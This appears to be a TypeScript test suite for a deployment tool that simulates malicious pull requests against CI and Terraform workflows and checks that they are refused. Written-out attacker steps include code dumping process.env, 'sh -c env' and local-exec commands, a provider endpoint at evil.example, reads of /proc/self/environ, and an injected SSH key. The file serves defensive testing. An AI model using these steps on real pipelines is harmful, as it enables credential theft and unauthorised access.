import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { account } from '../../simulator/account';
import { whyNoAct } from './act';
import { fork, Forge } from './forge';

const minutes = 60_000;
const why = whyNoAct();
const suite = why ? describe.skip : describe;

// each test is one attack with the attacker's own steps; they share one deployed environment, and none of them may change it
suite(
  `pull requests that want more than a review, by the workflows as they lie${why ? ` (skipped: ${why})` : ''}`,
  () => {
    let forge: Forge;
    let base: string;
    /** Where the code of a pull request writes down what it finds. */
    const loot = join(tmpdir(), `loot-${process.pid}`);
    beforeAll(async () => {
      forge = await Forge.open();
      for (const command of [['bootstrap'], ['deploy', 'staging', '--yes', '--reason', 'the first of all']]) {
        const { code, output } = await forge.at('npx', 'berth', ...command);
        if (code !== 0) throw new Error(output);
      }
      base = await forge.git('rev-parse', 'main');
    }, 5 * minutes);
    afterEach(() => rmSync(loot, { force: true }));
    afterAll(() => (forge as Forge | undefined)?.close());

    const comment = async (number: number): Promise<string> =>
      (await forge.api<{ body: string }[]>('GET', `/issues/${number}/comments`)).map(({ body }) => body).join('\n');
    const deploy = (before: string, sha: string, env: Record<string, string> = {}) =>
      forge.workflow('deploy.yml', 'push', { before, after: sha, ref: 'refs/heads/main' }, { sha, env });
    const sealed = () =>
      forge.cloud.spaces
        .keys('asset-archive-state')
        .filter((key) => key.startsWith('reviews/'))
        .sort();
    const desired = async () =>
      (await forge.cloud.spaces.get('asset-archive-staging-config', 'desired.yaml'))!.bytes.toString('utf8');
    const openPorts = () =>
      (
        Object.values(forge.cloud.digitalocean.state.firewalls)[0]! as { inbound_rules: { ports: string }[] }
      ).inbound_rules
        .map(({ ports }) => ports)
        .sort();
    const level = (from: string, to: string) =>
      forge.edit('environments/staging.ts', `LOG_LEVEL: '${from}'`, `LOG_LEVEL: '${to}'`);
    /** Code in an environment's file that takes whatever is worth taking. */
    const steal = `\nimport { appendFileSync } from 'node:fs';\nappendFileSync('${loot}', JSON.stringify(process.env) + '\\n');\n`;
    const nothingStolen = () => {
      const text = readFileSync(loot, 'utf8');
      for (const canary of [
        account.digitaloceanToken,
        account.githubToken,
        account.spaces.secretKey,
        account.spaces.accessKey,
      ])
        expect(text.match(new RegExp(`"\\w+":"[^"]*${canary}`, 'g')) ?? []).toEqual([]);
    };
    type Anything = Record<string, never> & {
      stacks: Record<string, { json: Record<string, Record<string, unknown>> }>;
    };
    const tamperWith =
      (change: (synthesis: Anything) => void) =>
      (folder: string): void => {
        const file = join(folder, 'synthesis', 'synthesis.json');
        const synthesis = JSON.parse(readFileSync(file, 'utf8')) as Anything;
        change(synthesis);
        writeFileSync(file, JSON.stringify(synthesis));
      };

    test(
      'code that behaves in the review and not at the merge meets no secret, and what it adds is refused by name',
      async () => {
        const pull = await forge.openPull('two-faced', () => {
          level('debug', 'info');
          const path = join(forge.folder, 'environments/staging.ts');
          writeFileSync(
            path,
            `${readFileSync(path, 'utf8').replace('  github: {', `  ...(process.env.GITHUB_EVENT_NAME === 'pull_request' ? {} : { access: { ssh: { from: ['198.51.100.99/32'], keys: { mallory: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIL6Vh7bRrTnXyVYV9ZCVfGQ3QpC9XZ4wJ1Zg0m5ZQq0e mallory' } } } }),\n  github: {`)}${steal}`,
          );
        });
        expect((await forge.planned(pull.number)).jobs).toContain('plan staging: success');
        expect(await comment(pull.number)).toMatch(/LOG_LEVEL/);
        nothingStolen();
        const ports = openPorts();
        const merged = await forge.merge('two-faced');
        const ran = await deploy(base, merged);
        expect(ran.jobs).toEqual(['first staging: failure', 'synth: success']);
        expect(ran.said).toMatch(
          /staging: nothing was applied[\s\S]*digitalocean_firewall\.firewall[\s\S]*198\.51\.100\.99/,
        );
        expect([openPorts(), (await desired()).includes('LOG_LEVEL: debug')]).toEqual([ports, true]);
        // the environment's file ran again, in the job without secrets alone
        nothingStolen();
        await forge.git('revert', '--no-edit', '--mainline', '1', merged);
        await forge.push('main');
      },
      5 * minutes,
    );

    test(
      'code that runs at the merge, in the job without secrets, cannot say which commit runs in the jobs that have them',
      async () => {
        const evil = await forge.openPull('evil', () => {
          writeFileSync(
            join(forge.folder, 'bin/berth.js'),
            `#!/usr/bin/env node\nrequire('node:fs').appendFileSync('${loot}', JSON.stringify(process.env) + '\\n');\n`,
          );
        });
        // it puts another program in the place of the one that tells which environments are deployed, and with which code
        const answer = JSON.stringify({
          waves: { first: [{ environment: 'staging', change: 'changed', ref: evil.head.sha }], production: [] },
        });
        await forge.openPull('lever', () => {
          const path = join(forge.folder, 'environments/staging.ts');
          writeFileSync(
            path,
            `${readFileSync(path, 'utf8')}\nimport { writeFileSync as put } from 'node:fs';\nif (process.env.GITHUB_EVENT_NAME === 'push') put('bin/berth.js', ${JSON.stringify(`#!/usr/bin/env node\nprocess.stdout.write(${JSON.stringify(answer)});`)});\n`,
          );
        });
        const merged = await forge.merge('lever');
        const ran = await deploy(base, merged);
        expect([existsSync(loot), ran.jobs, ran.said]).toEqual([
          false,
          ['first staging: success', 'synth: success'],
          expect.stringContaining('staging: nothing to change'),
        ]);
        await forge.git('revert', '--no-edit', '--mainline', '1', merged);
        await forge.push('main');
      },
      3 * minutes,
    );

    test(
      'what a synth leaves is data: a command, a provider and a file of the runner in it are refused before Terraform sees them, by their paths',
      async () => {
        const pull = await forge.openPull('tampered', () => level('debug', 'info'));
        const ran = await forge.planned(pull.number, {
          tamper: tamperWith(
            ({
              stacks: {
                staging: { json },
              },
            }) => {
              json.data = { external: { x: { program: ['sh', '-c', `env > ${loot}`] } } };
              json.provider!.digitalocean = [{ api_endpoint: 'https://evil.example' }];
              (json.resource!.digitalocean_tag as Record<string, { name: string }>).tag!.name =
                '${file("/proc/self/environ")}';
            },
          ),
        });
        expect(ran.jobs).toEqual(['affected: success', 'comment: failure', 'find: success', 'plan staging: failure']);
        const body = await comment(pull.number);
        for (const path of [
          'data.external.x',
          'provider.digitalocean[0].api_endpoint',
          'resource.digitalocean_tag.tag.name',
        ])
          expect(body).toContain(path);
        expect(await forge.status(pull.head.sha)).toBe('berth failure: 1 environment could not be planned');
        expect([existsSync(loot), sealed().filter((key) => key.includes(pull.head.sha))]).toEqual([false, []]);
      },
      3 * minutes,
    );

    test.each<[string, (folder: string) => void]>([
      [
        'a folder in its place, with files that want to lie over the checkout',
        (folder) => {
          rmSync(join(folder, 'synthesis'), { recursive: true });
          mkdirSync(join(folder, 'synthesis/synthesis.json/bin'), { recursive: true });
          writeFileSync(
            join(folder, 'synthesis/synthesis.json/bin/berth.js'),
            `require('node:fs').writeFileSync('${loot}', '')`,
          );
        },
      ],
      [
        'a link to a file of the runner',
        (folder) => {
          rmSync(join(folder, 'synthesis/synthesis.json'));
          symlinkSync('/proc/self/environ', join(folder, 'synthesis/synthesis.json'));
        },
      ],
    ])(
      'an artifact is read as one plain file: %s is refused',
      async (_, tamper) => {
        const branch = `artifact-${String(Math.random()).slice(2)}`;
        const pull = await forge.openPull(branch, () => level('debug', 'info'), { from: fork });
        const ran = await forge.planned(pull.number, { tamper });
        expect(ran.jobs).toEqual(['affected: failure', 'comment: failure', 'find: success']);
        expect(ran.said).toContain('synthesis.json is not a plain file: it is refused');
        expect(await forge.status(pull.head.sha)).toBe('berth failure: Nothing could be planned');
        expect(existsSync(loot)).toBe(false);
      },
      3 * minutes,
    );

    test(
      'another program is refused until somebody who may write has labelled that very commit, and then the review says so',
      async () => {
        const pull = await forge.openPull('program', () => {
          const path = join(forge.folder, 'provisioners/convergence-main.ts');
          writeFileSync(path, `${readFileSync(path, 'utf8')}\nprocess.stderr.write('another program');\n`);
        });
        expect((await forge.planned(pull.number)).jobs).toContain('plan staging: failure');
        expect(await comment(pull.number)).toMatch(
          /assets\/convergence-program\/[0-9A-F]{32}\/await\.js[\s\S]*the label "plan" lets it be planned/,
        );
        // who sorts issues may label, and may not write
        const sorted = await forge.planned(pull.number, { label: 'plan', sender: 'trent' });
        expect([sorted.jobs, sorted.said]).toEqual([
          ['find: failure'],
          expect.stringContaining('trent may not write to acme/asset-archive (read)'),
        ]);
        const read = await forge.planned(pull.number, { label: 'plan' });
        expect(read.jobs).toContain('plan staging: success');
        expect(await comment(pull.number)).toMatch(
          /\*\*warning\*\*: `assets\/convergence-program\/[0-9A-F]{32}\/await\.js` is another than this branch's own/,
        );
        // pushed over between the look and the label: the label was for the commit before
        const stale = await forge.pull(pull.number);
        await forge.git('switch', '--quiet', 'program');
        await forge.git('commit', '--quiet', '--allow-empty', '--message', 'more');
        await forge.push('program');
        expect(
          (
            await forge.trusted('plan.yml', 'pull_request_target', {
              action: 'labeled',
              number: pull.number,
              label: { name: 'plan' },
              sender: { login: 'ada' },
              pull_request: stale,
            })
          ).jobs,
        ).toEqual(['find: success']);
      },
      5 * minutes,
    );

    test(
      'old runs that are started again bring nothing old back: neither a review that was merged, nor a commit that was overtaken',
      async () => {
        const before = await forge.git('rev-parse', 'main');
        const pull = await forge.openPull('overtaken', () => level('debug', 'info'));
        expect((await forge.planned(pull.number)).jobs).toContain('plan staging: success');
        const first = await forge.merge('overtaken');
        expect((await deploy(before, first)).jobs).toEqual(['first staging: success', 'synth: success']);
        const next = await forge.openPull('overtaking', () => level('info', 'warn'));
        expect((await forge.planned(next.number)).jobs).toContain('plan staging: success');
        const second = await forge.merge('overtaking');
        expect((await deploy(first, second)).jobs).toEqual(['first staging: success', 'synth: success']);

        const reviews = sealed();
        const kept = await Promise.all(
          reviews.map(async (key) =>
            (await forge.cloud.spaces.get('asset-archive-state', key))!.bytes.toString('utf8'),
          ),
        );
        await forge.api('PATCH', `/pulls/${pull.number}`, { state: 'closed' });
        expect((await forge.planned(pull.number)).jobs).toEqual(['find: success']);
        expect(
          await Promise.all(
            sealed().map(async (key) =>
              (await forge.cloud.spaces.get('asset-archive-state', key))!.bytes.toString('utf8'),
            ),
          ),
        ).toEqual(kept);

        // act takes the commit of an event from the repository that it stands in
        await forge.git('switch', '--quiet', '--detach', first);
        const again = await deploy(before, first, { GITHUB_RUN_ATTEMPT: '2' });
        expect(again.jobs).toEqual(['first staging: failure', 'synth: success']);
        expect(again.said).toContain(`${first.slice(0, 12)} is behind ${second.slice(0, 12)}, which was deployed last`);
        expect(await desired()).toContain('LOG_LEVEL: warn');
        // a deploy by hand brings its reason along when it is started again
        const reasoned = await forge.workflow(
          'deploy.yml',
          'workflow_dispatch',
          { inputs: { environment: 'staging', reason: 'back then' } },
          { sha: first, env: { GITHUB_RUN_ATTEMPT: '2' } },
        );
        expect(reasoned.said).toContain('its reason was for the first time');
        expect(await desired()).toContain('LOG_LEVEL: warn');
      },
      8 * minutes,
    );

    test(
      'a preview runs nothing of a pull request beside its credentials, and no command that it brings along',
      async () => {
        const pull = await forge.openPull('preview', () => {
          const path = join(forge.folder, 'environments/product.ts');
          writeFileSync(path, `${readFileSync(path, 'utf8')}${steal}`);
        });
        const tamper = (folder: string): void => {
          const file = join(folder, 'preview', 'preview.json');
          const synthesis = JSON.parse(readFileSync(file, 'utf8')) as Anything;
          synthesis.stacks[`pr-${pull.number}`]!.json.resource!.terraform_data = {
            x: { provisioner: [{ 'local-exec': { command: `env >> ${loot}` } }] },
          };
          writeFileSync(file, JSON.stringify(synthesis));
        };
        await forge.synthesized(pull.number, tamper);
        const ran = await forge.labelled('preview.yml', pull.number, 'preview');
        expect(ran.jobs).toEqual(['find: success', 'up: failure']);
        expect(ran.said).toContain('resource.terraform_data.x.provisioner[0].local-exec.command');
        expect(Object.values(forge.cloud.digitalocean.state.droplets).map(({ name }) => name)).toEqual([
          'asset-archive-staging',
        ]);
        nothingStolen();
      },
      3 * minutes,
    );
  },
);
